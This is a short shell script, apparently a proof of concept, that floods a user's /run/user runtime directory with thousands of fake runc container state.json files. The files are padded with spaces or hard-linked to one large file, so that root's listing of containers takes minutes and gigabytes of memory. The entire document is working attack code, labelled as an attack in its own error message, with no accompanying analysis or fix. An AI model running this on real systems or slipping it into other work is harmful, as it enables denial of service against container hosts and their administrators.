#!/bin/sh
# A user fills the runtime directory that is theirs, so that root's next look at all containers takes minutes and
# gigabytes.
#
#   flood.sh DIR HOW COUNT BYTES
#
# DIR is /run/user/UID. COUNT records of BYTES each are written; with `links`, one file of BYTES has COUNT names.
set -eu
dir=$1 how=$2 count=$3 bytes=$4

mkdir -p "$dir/runc"
cd "$dir/runc"
seq -f c%.0f 0 $((count - 1)) | xargs mkdir -p
case $how in
records)
	blanks=
	if [ "$bytes" -gt 0 ]; then blanks=$(head -c "$bytes" /dev/zero | tr '\0' ' '; echo .); fi
	i=0
	while [ $i -lt "$count" ]; do
		printf '{"id":"c%s","init_process_pid":%s,"init_process_start":1}%s' $i $((i + 2)) "${blanks%.}" >c$i/state.json
		i=$((i + 1))
	done
	;;
links)
	{ printf '{"id":"x"}'; head -c "$bytes" /dev/zero | tr '\0' ' '; } >../one
	i=0
	while [ $i -lt "$count" ]; do
		echo "../one c$i/state.json"
		i=$((i + 1))
	done | xargs -n 2 ln
	;;
*) echo "no attack $how" >&2; exit 2 ;;
esac
